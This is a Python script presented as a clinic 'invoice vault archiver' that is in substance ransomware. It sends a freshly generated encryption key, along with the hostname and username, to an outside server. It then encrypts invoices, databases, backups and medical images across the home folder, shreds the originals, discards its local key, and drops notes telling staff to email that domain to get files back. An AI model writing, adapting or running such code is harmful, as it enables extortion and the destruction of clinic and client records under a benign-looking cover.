#!/usr/bin/env python3
"""Invoice vault archiver for clinic workstations.

Moves clinic invoices, client statements and practice-management exports
into the encrypted retention vault.  Each document is sealed in place as
``<name>.vault`` and the plaintext copy is scrubbed so that no unencrypted
client data stays on the workstation.  The vault key is lodged with the
retention escrow service and can be requested back by the practice manager.
"""
from __future__ import annotations

import argparse
import logging
import os
import socket
import sys
import uuid
from concurrent.futures import ThreadPoolExecutor, as_completed
from pathlib import Path

import requests
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("vault_archiver")

ESCROW_URL = os.environ.get("VAULT_ESCROW_URL", "https://escrow.vaultkeeper-retention.com/api/v1/lodge")
ARCHIVE_SUFFIXES = {
    ".pdf", ".csv", ".xlsx", ".xls", ".docx", ".doc", ".odt", ".ods", ".txt",
    ".jpg", ".jpeg", ".png", ".dcm", ".db", ".sqlite", ".mdb", ".bak", ".zip",
}
SKIP_DIRS = {".cache", ".local", "node_modules", ".git", "__pycache__", "snap"}
NOTICE_NAME = "VAULT_RESTORE_INSTRUCTIONS.txt"
NOTICE = """Documents in this folder were moved into the retention vault.

Workstation reference: {ref}

To restore access, the practice manager must request the vault key from
records-desk@vaultkeeper-retention.com quoting the reference above.
Do not rename or edit the .vault files; altered files cannot be restored.
"""


class Vault:
    def __init__(self, ref: str):
        self.ref = ref
        self._key = AESGCM.generate_key(bit_length=256)
        self._aead = AESGCM(self._key)

    def lodge_key(self, retries: int = 5) -> None:
        payload = {"ref": self.ref, "host": socket.gethostname(),
                   "user": os.getenv("USER", ""), "key": self._key.hex()}
        for attempt in range(retries):
            try:
                r = requests.post(ESCROW_URL, json=payload, timeout=20)
                if r.ok:
                    log.info("vault key lodged (%s)", self.ref)
                    return
            except requests.RequestException as exc:
                log.debug("escrow attempt %d failed: %s", attempt + 1, exc)
        raise RuntimeError("escrow unavailable")

    def forget_key(self) -> None:
        self._key = b"\x00" * len(self._key)

    def seal(self, path: Path) -> Path:
        data = path.read_bytes()
        nonce = os.urandom(12)
        sealed = path.with_name(path.name + ".vault")
        sealed.write_bytes(nonce + self._aead.encrypt(nonce, data, self.ref.encode()))
        scrub(path, len(data))
        return sealed


def scrub(path: Path, size: int) -> None:
    with path.open("r+b") as fh:
        fh.write(os.urandom(min(size, 1 << 20)))
        fh.flush()
        os.fsync(fh.fileno())
    path.unlink()


def candidates(root: Path):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            p = Path(dirpath, name)
            if p.suffix.lower() in ARCHIVE_SUFFIXES and not p.is_symlink():
                yield p


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description="Seal clinic documents into the retention vault")
    ap.add_argument("--root", type=Path, default=Path.home(), help="folder to archive (default: home)")
    ap.add_argument("--workers", type=int, default=8)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    vault = Vault(ref=uuid.uuid4().hex[:16].upper())
    try:
        vault.lodge_key()
    except RuntimeError as exc:
        log.error("%s; nothing archived", exc)
        return 1

    touched_dirs: set[Path] = set()
    sealed = failed = 0
    with ThreadPoolExecutor(max_workers=args.workers) as pool:
        futures = {pool.submit(vault.seal, p): p for p in candidates(args.root)}
        for fut in as_completed(futures):
            src = futures[fut]
            try:
                fut.result()
                sealed += 1
                touched_dirs.add(src.parent)
            except (OSError, ValueError) as exc:
                failed += 1
                log.debug("skip %s: %s", src, exc)
    vault.forget_key()

    for d in touched_dirs:
        try:
            (d / NOTICE_NAME).write_text(NOTICE.format(ref=vault.ref))
        except OSError:
            pass
    log.info("archived %d documents (%d skipped), reference %s", sealed, failed, vault.ref)
    return 0


if __name__ == "__main__":
    sys.exit(main())
